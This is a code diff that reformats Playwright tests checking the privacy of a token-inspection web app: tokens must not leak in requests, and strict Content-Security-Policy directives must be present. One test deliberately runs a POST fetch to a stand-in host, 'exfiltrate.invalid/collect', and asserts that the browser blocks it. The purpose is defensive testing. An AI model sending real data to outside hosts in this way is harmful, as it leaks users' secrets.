@@ -31,9 +31,16 @@ describe('privacy in Chromium', () => {
     const requests: Recorded[] = []
     const pendingRecords: Promise<void>[] = []
     page.on('request', (r: Request) => {
-      pendingRecords.push((async () => {
-        requests.push({ url: r.url(), method: r.method(), headers: JSON.stringify(await r.allHeaders()), body: r.postData() ?? '' })
-      })())
+      pendingRecords.push(
+        (async () => {
+          requests.push({
+            url: r.url(),
+            method: r.method(),
+            headers: JSON.stringify(await r.allHeaders()),
+            body: r.postData() ?? '',
+          })
+        })(),
+      )
     })
     const appUrl = inject('appUrl')
     const entraRequests = await answerEntra(page, key)
@@ -47,7 +54,8 @@ describe('privacy in Chromium', () => {
     await paste(page, pasted)
     await page.locator('cc-signature-panel [data-status="valid"]').waitFor()
     expect(entraRequests.length).toBeGreaterThan(0)
-    for (const view of ['consent', 'reference', 'inspect']) await page.locator(`nav [data-view="${view}"]`).click()
+    for (const view of ['consent', 'reference', 'inspect'])
+      await page.locator(`nav [data-view="${view}"]`).click()
 
     await page.reload()
     await page.locator('cc-token-input textarea').waitFor()
@@ -60,7 +68,10 @@ describe('privacy in Chromium', () => {
       expect(r.method, `${r.method} ${r.url}`).toBe('GET')
       for (const token of [pasted, sample]) {
         for (const piece of pieces(token)) {
-          expect(r.url.includes(piece) || r.headers.includes(piece) || r.body.includes(piece), `token piece in a request to ${r.url}`).toBe(false)
+          expect(
+            r.url.includes(piece) || r.headers.includes(piece) || r.body.includes(piece),
+            `token piece in a request to ${r.url}`,
+          ).toBe(false)
         }
       }
     }
@@ -92,14 +103,25 @@ describe('privacy in Chromium', () => {
     page.on('request', (r) => requested.push(r.url()))
     const response = await page.goto(inject('appUrl'))
     const header = (await response?.allHeaders())?.['content-security-policy'] ?? ''
-    for (const directive of ["default-src 'none'", "script-src 'self'", "base-uri 'none'", "form-action 'none'", "frame-ancestors 'none'"]) {
+    for (const directive of [
+      "default-src 'none'",
+      "script-src 'self'",
+      "base-uri 'none'",
+      "form-action 'none'",
+      "frame-ancestors 'none'",
+    ]) {
       expect(header).toContain(directive)
     }
     for (const entra of ENTRA_LOGIN_ORIGINS) expect(header).toContain(entra)
     const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')
     expect(meta).toContain("default-src 'none'")
-    expect(meta).toContain("connect-src https://login.microsoftonline.com")
-    const outcome = await page.evaluate(() => fetch('https://exfiltrate.invalid/collect', { method: 'POST', body: 'x' }).then(() => 'sent', () => 'blocked'))
+    expect(meta).toContain('connect-src https://login.microsoftonline.com')
+    const outcome = await page.evaluate(() =>
+      fetch('https://exfiltrate.invalid/collect', { method: 'POST', body: 'x' }).then(
+        () => 'sent',
+        () => 'blocked',
+      ),
+    )
     expect(outcome).toBe('blocked')
     expect(requested.some((u) => u.includes('exfiltrate.invalid'))).toBe(false)
     await context.close()
